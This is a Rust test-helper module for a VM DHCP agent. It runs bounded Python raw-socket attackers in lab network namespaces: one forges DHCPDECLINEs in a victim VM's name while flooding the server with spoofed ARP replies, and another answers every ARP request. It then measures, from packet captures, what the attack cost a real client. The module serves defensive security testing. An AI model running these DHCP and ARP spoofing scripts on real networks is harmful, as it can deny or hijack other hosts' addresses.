//! Hostile hosts on a VM network, for the tests that show what a tenant can and cannot do to the
//! agent and to other VMs: a forger of DHCPDECLINEs that floods the server with unicast ARP
//! replies, a host that answers every ARP request (as a proxy-ARP router does), and the
//! accounting of what such an attack cost a real client, read from a capture on its interface.
//!
//! Every attacker is a Python process on raw sockets in a lab namespace, bounded in frames and
//! in time: it stops by itself, and the lab kills whatever still runs in its namespaces.
//!
//! These helpers fail the calling test on any error: they are test code, not product code.
#![allow(clippy::unwrap_used, clippy::panic)]

use std::io::{BufRead, BufReader, Read};
use std::net::Ipv4Addr;
use std::path::Path;
use std::process::{Child, ChildStdout, Stdio};
use std::time::Duration;

use crate::dhcp_client::wait_for;
use crate::fleet::{Captured, captured};
use crate::netns::{Lab, Netns};
use crate::static_agent::{PY_CLIENT_SOCKET, decline, hex};

/// `aa:bb:cc:dd:ee:ff` as bytes.
pub fn mac_bytes(mac: &str) -> [u8; 6] {
    let bytes: Vec<u8> = mac
        .trim()
        .split(':')
        .map(|b| u8::from_str_radix(b, 16).unwrap())
        .collect();
    bytes.try_into().unwrap()
}

/// The MAC of `interface` in `ns`.
pub fn mac_of(lab: &Lab, ns: &Netns, interface: &str) -> [u8; 6] {
    let path = format!("/sys/class/net/{interface}/address");
    mac_bytes(&lab.exec(ns, "cat", &[&path]).unwrap())
}

/// An Ethernet ARP reply, padded to the Ethernet minimum: from `sender` (its MAC in both the
/// Ethernet source and the sender hardware address, so it passes for genuine) claiming
/// `sender_ip`, sent to `target` with target address `target_ip`.
pub fn arp_reply(
    sender: [u8; 6],
    sender_ip: Ipv4Addr,
    target: [u8; 6],
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut frame = Vec::with_capacity(60);
    frame.extend_from_slice(&target);
    frame.extend_from_slice(&sender);
    frame.extend_from_slice(&[0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2]);
    frame.extend_from_slice(&sender);
    frame.extend_from_slice(&sender_ip.octets());
    frame.extend_from_slice(&target);
    frame.extend_from_slice(&target_ip.octets());
    frame.resize(60, 0);
    frame
}

/// A Python process in a lab namespace that stops by itself; killed if dropped before.
pub struct Attacker {
    child: Child,
    stdout: BufReader<ChildStdout>,
    limit: Duration,
}

impl Attacker {
    /// Starts `script` on `ns` and waits for its line `ready` (its sockets are open); it must
    /// stop by itself within `limit`.
    pub(crate) fn start(ns: &Netns, script: &str, limit: Duration) -> Self {
        let mut cmd = ns.command("python3");
        cmd.args(["-c", script])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit());
        let mut child = cmd.spawn().unwrap();
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready", "the attacker did not start");
        Attacker {
            child,
            stdout,
            limit,
        }
    }

    /// Whether it still runs.
    pub fn running(&mut self) -> bool {
        self.child.try_wait().unwrap().is_none()
    }

    /// Interrupts it (SIGINT, which it answers by stopping and saying what it sent) and
    /// returns what [`Attacker::finish`] does.
    pub fn stop(self) -> Vec<u64> {
        let pid = self.child.id().to_string();
        let sent = std::process::Command::new("kill")
            .args(["-INT", &pid])
            .status()
            .unwrap();
        assert!(sent.success());
        self.finish()
    }

    /// Waits until it stopped (within its time limit and a margin); what it printed last, as
    /// numbers (how many frames of each kind it sent).
    pub fn finish(mut self) -> Vec<u64> {
        let child = &mut self.child;
        let status = wait_for(
            "the attacker to stop by itself",
            self.limit + Duration::from_secs(5),
            || child.try_wait().unwrap(),
        );
        assert!(status.success(), "the attacker failed: {status}");
        let mut out = String::new();
        self.stdout.read_to_string(&mut out).unwrap();
        out.split_whitespace().map(|n| n.parse().unwrap()).collect()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// What [`forge`] sends.
#[derive(Clone, Debug)]
pub struct Forgery {
    /// The DHCPDECLINE, broadcast from port 68 (see [`crate::static_agent::decline`]).
    pub decline: Vec<u8>,
    /// Time between two DECLINEs.
    pub decline_every: Duration,
    /// The ARP frame of the flood, sent as it is (see [`arp_reply`]).
    pub arp: Vec<u8>,
    /// Time between two ARP frames.
    pub arp_every: Duration,
    /// How long the attack lasts.
    pub duration: Duration,
}

impl Forgery {
    /// Issue 37's attack on the VM `vm_mac` holding `vm_ip`: a DECLINE in its name to `server`
    /// every 0.3 s, and ARP replies for its address from `forger_mac` (in both the Ethernet
    /// source and the sender hardware address, as a reply to the server's probe looks) to the
    /// server's MAC alone, every 5 ms, for 10 s.
    pub fn against(
        vm_mac: [u8; 6],
        vm_ip: Ipv4Addr,
        server: Ipv4Addr,
        server_mac: [u8; 6],
        forger_mac: [u8; 6],
    ) -> Self {
        Forgery {
            decline: decline(vm_mac, vm_ip, server, [0xf0, 0, 0, 1]),
            decline_every: Duration::from_millis(300),
            arp: arp_reply(forger_mac, vm_ip, server_mac, Ipv4Addr::UNSPECIFIED),
            arp_every: Duration::from_millis(5),
            duration: Duration::from_secs(10),
        }
    }
}

/// Starts the forger on `ns`'s eth0: the DECLINE every `decline_every` and the ARP frame every
/// `arp_every` for `duration`, no more frames than that. [`Attacker::finish`] gives (DECLINEs
/// sent, ARP frames sent).
pub fn forge(ns: &Netns, forgery: &Forgery) -> Attacker {
    let script = format!(
        "{PY_CLIENT_SOCKET}\
         import time\n\
         p=socket.socket(socket.AF_PACKET,socket.SOCK_RAW)\n\
         p.bind(('eth0',0))\n\
         decline=bytes.fromhex('{decline}')\n\
         arp=bytes.fromhex('{arp}')\n\
         print('ready',flush=True)\n\
         start=time.monotonic()\n\
         end=start+{duration}\n\
         nd=na=0\n\
         while True:\n\
         \x20 now=time.monotonic()\n\
         \x20 if now>=end: break\n\
         \x20 if now>=start+nd*{decline_every} and nd<{max_declines}:\n\
         \x20\x20 s.sendto(decline,('255.255.255.255',67)); nd+=1\n\
         \x20 if now>=start+na*{arp_every} and na<{max_arp}:\n\
         \x20\x20 p.send(arp); na+=1\n\
         \x20 time.sleep(max(0,min(start+nd*{decline_every},start+na*{arp_every},end)-time.monotonic()))\n\
         print(nd,na)\n",
        decline = hex(&forgery.decline),
        arp = hex(&forgery.arp),
        duration = forgery.duration.as_secs_f64(),
        decline_every = forgery.decline_every.as_secs_f64(),
        arp_every = forgery.arp_every.as_secs_f64(),
        max_declines = frames_in(forgery.duration, forgery.decline_every),
        max_arp = frames_in(forgery.duration, forgery.arp_every),
    );
    Attacker::start(ns, &script, forgery.duration)
}

/// How many frames one every `every` makes in `duration`, the first at once.
fn frames_in(duration: Duration, every: Duration) -> u128 {
    duration.as_micros() / every.as_micros().max(1) + 1
}

/// Starts, on `ns`'s eth0 (MAC `own`), a host that answers every ARP request for any address
/// but its announcements, RFC 5227 probes included (as Linux answers a probe: to the prober's
/// MAC, target address 0.0.0.0), for `duration` and at most `max` answers. [`Attacker::finish`]
/// gives the number of answers sent.
pub fn answer_every_arp(ns: &Netns, own: [u8; 6], duration: Duration, max: u32) -> Attacker {
    let script = format!(
        "import signal,socket,time\n\
         signal.signal(signal.SIGINT,signal.default_int_handler)\n\
         p=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(0x0806))\n\
         p.bind(('eth0',0))\n\
         p.settimeout(0.1)\n\
         me=bytes.fromhex('{own}')\n\
         print('ready',flush=True)\n\
         end=time.monotonic()+{duration}\n\
         n=0\n\
         try:\n\
         \x20while time.monotonic()<end and n<{max}:\n\
         \x20 try: f,addr=p.recvfrom(128)\n\
         \x20 except socket.timeout: continue\n\
         \x20 if addr[2]==socket.PACKET_OUTGOING or len(f)<42 or f[20:22]!=b'\\x00\\x01': continue\n\
         \x20 sha,spa,tpa=f[22:28],f[28:32],f[38:42]\n\
         \x20 if sha==me or spa==tpa or tpa==bytes(4): continue\n\
         \x20 r=sha+me+bytes.fromhex('08060001080006040002')+me+tpa+sha+spa\n\
         \x20 p.send(r+bytes(60-len(r)))\n\
         \x20 n+=1\n\
         except KeyboardInterrupt:\n\
         \x20pass\n\
         print(n)\n",
        own = hex(&own),
        duration = duration.as_secs_f64(),
    );
    Attacker::start(ns, &script, duration)
}

/// Starts `tcpdump` on `ns`'s eth0 writing DHCP (and, with `arp`, ARP) frames to `pcap`
/// (killed when `lab` drops); returns once it captures.
pub fn capture_dhcp(lab: &mut Lab, ns: &Netns, pcap: &Path, arp: bool) {
    let mut cmd = ns.command("tcpdump");
    // Each frame written as it arrives, not when the kernel's buffer block times out.
    cmd.args(["-i", "eth0", "--immediate-mode", "-U", "-n", "-w"])
        .arg(pcap)
        .args(["udp", "port", "67", "or", "udp", "port", "68"])
        .args(if arp { &["or", "arp"][..] } else { &[] })
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    lab.spawn(cmd).unwrap();
    // tcpdump writes the file's header once its capture is open.
    wait_for("tcpdump capturing", Duration::from_secs(10), || {
        std::fs::metadata(pcap)
            .is_ok_and(|m| m.len() >= 24)
            .then_some(())
    });
}

/// What an attack cost a client, from a capture on its interface.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct Cost {
    /// Messages the client sent (DISCOVER, REQUEST) in the window.
    pub attempts: usize,
    /// Of those, the ones no OFFER or ACK answered before the client's next message.
    pub lost: usize,
    /// Longest time from a client's first message after its last answer to the next answer.
    pub longest_wait: Duration,
}

impl std::fmt::Display for Cost {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} exchanges, {} lost, longest wait {} ms",
            self.attempts,
            self.lost,
            self.longest_wait.as_millis()
        )
    }
}

/// Seconds since the Unix epoch, as a capture's timestamps count.
pub fn now_unix() -> f64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs_f64()
}

/// What the client `mac` spent on DHCP in `pcap` from `from` (Unix seconds) on (see
/// [`cost_of`]), once the capture holds an answer to it sent after `after` (the one that gave it
/// the lease it was seen to hold again) and the answer to its last message: a client records
/// its lease before the capture has the frame.
pub fn settled_cost(pcap: &Path, mac: [u8; 6], from: f64, after: f64) -> Cost {
    let answers = |m: &Captured| m.op == 2 && m.chaddr == mac && matches!(m.kind, 2 | 5);
    wait_for(
        "the capture to hold the client's last answers",
        Duration::from_secs(5),
        || {
            let messages = captured(pcap);
            let last = messages.iter().rposition(|m| m.op == 1 && m.src == mac)?;
            let xid = messages[last].xid;
            let settled = messages.iter().any(|m| answers(m) && m.at > after)
                && messages[last..].iter().any(|m| answers(m) && m.xid == xid);
            settled.then(|| cost_of(&messages, mac, from, f64::MAX))
        },
    )
}

/// What the client `mac` spent on DHCP in `messages` (in capture order) for its messages sent
/// between `from` and `to`: each message it sent (by its own Ethernet source: a forger's in its
/// name do not count) is answered when an OFFER or ACK with its xid reaches it before its next
/// message, sent in the window or after it (clients reuse an xid across retries, so a later
/// answer to a later retry does not answer an earlier message).
pub fn cost_of(messages: &[Captured], mac: [u8; 6], from: f64, to: f64) -> Cost {
    let mut cost = Cost::default();
    // The client's last message not yet answered: its xid, and whether it was sent in the window.
    let mut open: Option<(u32, bool)> = None;
    let mut waiting_since: Option<f64> = None;
    for m in messages.iter().filter(|m| m.at >= from) {
        if m.op == 1 && m.src == mac {
            if let Some((_, true)) = open {
                cost.lost += 1;
            }
            let inside = m.at <= to;
            cost.attempts += usize::from(inside);
            open = Some((m.xid, inside));
            if inside {
                waiting_since.get_or_insert(m.at);
            }
        } else if m.op == 2
            && m.chaddr == mac
            && matches!(m.kind, 2 | 5)
            && open.is_some_and(|(xid, _)| xid == m.xid)
        {
            open = None;
            if let Some(since) = waiting_since.take() {
                let wait = Duration::from_secs_f64((m.at - since).max(0.0));
                cost.longest_wait = cost.longest_wait.max(wait);
            }
        }
    }
    cost.lost += usize::from(matches!(open, Some((_, true))));
    cost
}

/// The DHCP messages of client `mac` in `pcap` from `from` (Unix seconds) on, one line each:
/// seconds after `from`, the message type, its xid and where it went (for failure messages).
pub fn transcript(pcap: &Path, mac: [u8; 6], from: f64) -> Vec<String> {
    const TYPES: [&str; 9] = [
        "?", "DISCOVER", "OFFER", "REQUEST", "DECLINE", "ACK", "NAK", "RELEASE", "INFORM",
    ];
    captured(pcap)
        .into_iter()
        .filter(|m| m.at >= from && ((m.op == 1 && m.src == mac) || (m.op == 2 && m.chaddr == mac)))
        .map(|m| {
            let kind = TYPES.get(usize::from(m.kind)).unwrap_or(&"?");
            let to: Vec<String> = m.dst.iter().map(|b| format!("{b:02x}")).collect();
            format!(
                "+{:.3} {kind} {:08x} to {}",
                m.at - from,
                m.xid,
                to.join(":")
            )
        })
        .collect()
}

/// Whether the client recording its events in `dir` (the hook of [`crate::dhcp_client`]) holds
/// a lease again after its first `since` events: a renewal, a rebinding or a new lease, not an
/// expiry.
pub fn leased_after(dir: &Path, since: usize) -> bool {
    crate::dhcp_client::events(dir)
        .iter()
        .skip(since)
        .any(|(e, _)| {
            ["RENEW", "REBIND", "BOUND", "REBOOT", "renew", "bound"].contains(&e.as_str())
        })
}

/// Counts the packets an iptables rule in `ns` sees: ICMP echo requests from `source` arriving
/// for this host (the INPUT chain), wherever they came from.
pub struct EchoCounter {
    ns: Netns,
    source: String,
}

impl EchoCounter {
    /// Installs the rule (no target: it only counts).
    pub fn install(lab: &Lab, ns: &Netns, source: Ipv4Addr) -> Self {
        let source = source.to_string();
        lab.exec(
            ns,
            "iptables",
            &[
                "-w",
                "-A",
                "INPUT",
                "-s",
                &source,
                "-p",
                "icmp",
                "--icmp-type",
                "echo-request",
            ],
        )
        .unwrap();
        EchoCounter {
            ns: ns.clone(),
            source,
        }
    }

    /// The packets counted so far.
    pub fn read(&self, lab: &Lab) -> u64 {
        let out = lab
            .exec(
                &self.ns,
                "iptables",
                &["-w", "-L", "INPUT", "-v", "-n", "-x"],
            )
            .unwrap();
        // The rule's line: its packet count first, its source among the words (how the other
        // columns print differs between iptables' back ends).
        out.lines()
            .map(|l| l.split_whitespace().collect::<Vec<_>>())
            .filter(|w| w.contains(&self.source.as_str()))
            .map(|w| w[0].parse::<u64>().unwrap())
            .sum()
    }
}

/// Sends `count` ICMP echo requests to `target` from `ns` (a raw socket), 0.3 s apart; how many
/// were answered. What crosses is counted where it arrives ([`EchoCounter`]).
pub fn ping(lab: &Lab, ns: &Netns, target: &str, count: u32) -> u32 {
    let script = format!(
        "import os,select,socket,struct,time\n\
         def csum(b):\n\
         \x20 s=sum(struct.unpack('!%dH'%(len(b)//2),b)); s=(s>>16)+(s&0xffff); s+=s>>16\n\
         \x20 return ~s&0xffff\n\
         s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)\n\
         ident=os.getpid()&0xffff\n\
         got=0\n\
         for seq in range({count}):\n\
         \x20 body=b'vmdhcp-hostile'\n\
         \x20 head=struct.pack('!BBHHH',8,0,0,ident,seq)\n\
         \x20 head=struct.pack('!BBHHH',8,0,csum(head+body),ident,seq)\n\
         \x20 s.sendto(head+body,('{target}',0))\n\
         \x20 end=time.monotonic()+0.3\n\
         \x20 while True:\n\
         \x20\x20 left=end-time.monotonic()\n\
         \x20\x20 if left<=0 or not select.select([s],[],[],left)[0]: break\n\
         \x20\x20 d=s.recv(2048); at=(d[0]&15)*4\n\
         \x20\x20 if d[at]==0 and struct.unpack('!HH',d[at+4:at+8])==(ident,seq): got+=1; break\n\
         print(got)\n"
    );
    lab.exec(ns, "python3", &["-c", &script])
        .unwrap()
        .trim()
        .parse()
        .unwrap()
}

/// The MAC `ns`'s kernel holds for `ip` on `interface` (its neighbour table), if any.
pub fn neighbour(lab: &Lab, ns: &Netns, interface: &str, ip: &str) -> Option<String> {
    let out = lab
        .exec(ns, "ip", &["-4", "neigh", "show", ip, "dev", interface])
        .ok()?;
    let words: Vec<&str> = out.split_whitespace().collect();
    let at = words.iter().position(|w| *w == "lladdr")?;
    words.get(at + 1).map(|w| (*w).to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    const VM: [u8; 6] = [2, 0, 0, 0, 1, 10];
    const SERVER: [u8; 6] = [2, 0, 0, 0, 0, 1];

    /// Messages written `at>type:xid` (from the VM) or `at<type:xid` (to it), `at` in seconds,
    /// `type` the DHCP message type; a `!` before `>` marks a forger's message in the VM's name.
    fn wire(text: &str) -> Vec<Captured> {
        text.split_whitespace()
            .map(|word| {
                let (at, rest) = word.split_once(['>', '<']).unwrap();
                let (kind, xid) = rest.split_once(':').unwrap();
                let from_vm = word.contains('>');
                let mut m = Captured::default();
                (m.kind, m.xid) = (kind.parse().unwrap(), xid.parse().unwrap());
                m.at = at.trim_end_matches('!').parse().unwrap();
                (m.op, m.chaddr) = (if from_vm { 1 } else { 2 }, VM);
                m.src = match (from_vm, at.ends_with('!')) {
                    (true, false) => VM,
                    (true, true) => [2, 0, 0, 0, 0x0e, 0x0e],
                    (false, _) => SERVER,
                };
                m
            })
            .collect()
    }

    /// (attempts, lost, longest wait in ms) of the VM in `text` (see [`wire`]), window 1 s–10 s.
    fn judged(text: &str) -> (usize, usize, u128) {
        let cost = cost_of(&wire(text), VM, 1.0, 10.0);
        (cost.attempts, cost.lost, cost.longest_wait.as_millis())
    }

    #[test]
    fn each_message_is_answered_before_the_next_or_lost() {
        // Renewals answered: nothing lost, the longest wait is the slowest answer.
        assert_eq!(judged("2.0>3:7 2.1<5:7 4.0>3:7 4.3<5:7"), (2, 0, 300));
        // A NAK answers nothing.
        assert_eq!(judged("2.0>3:7 2.1<6:7"), (1, 1, 0));
        // Expired and started over: lost, then the DISCOVER's OFFER ends the wait.
        assert_eq!(
            judged("2.0>3:7 6.0>1:8 6.1<2:8 6.2>3:8 6.3<5:8"),
            (3, 1, 4_100)
        );
    }

    #[test]
    fn a_retry_with_the_same_xid_answered_later_does_not_hide_the_lost_message() {
        // Clients reuse the xid: the answer to the retry after the window is not the first's.
        assert_eq!(judged("2.0>3:7 12.0>3:7 12.1<5:7"), (1, 1, 10_100));
        // The last message of the window answered after it: not lost.
        assert_eq!(judged("9.9>3:7 10.2<5:7"), (1, 0, 300));
    }

    #[test]
    fn a_forgers_messages_in_the_vms_name_and_messages_before_the_window_do_not_count() {
        assert_eq!(judged("0.5>3:7 2.0!>4:9 3.0>3:7 3.1<5:7"), (1, 0, 100));
    }

    #[test]
    fn an_arp_reply_passes_for_genuine_at_both_layers() {
        let forger = mac_bytes("02:00:00:00:0e:0e");
        let frame = arp_reply(
            forger,
            Ipv4Addr::new(192, 0, 2, 10),
            SERVER,
            Ipv4Addr::UNSPECIFIED,
        );
        assert_eq!(frame.len(), 60);
        assert_eq!(&frame[0..6], &SERVER, "to the server alone");
        assert_eq!(&frame[6..12], &forger, "Ethernet source");
        assert_eq!(&frame[12..22], &[0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2]);
        assert_eq!(&frame[22..28], &forger, "sender hardware address");
        assert_eq!(&frame[28..32], &[192, 0, 2, 10]);
        assert_eq!(&frame[32..38], &SERVER);
        assert_eq!(&frame[38..42], &[0, 0, 0, 0], "as a reply to a probe");
    }
}
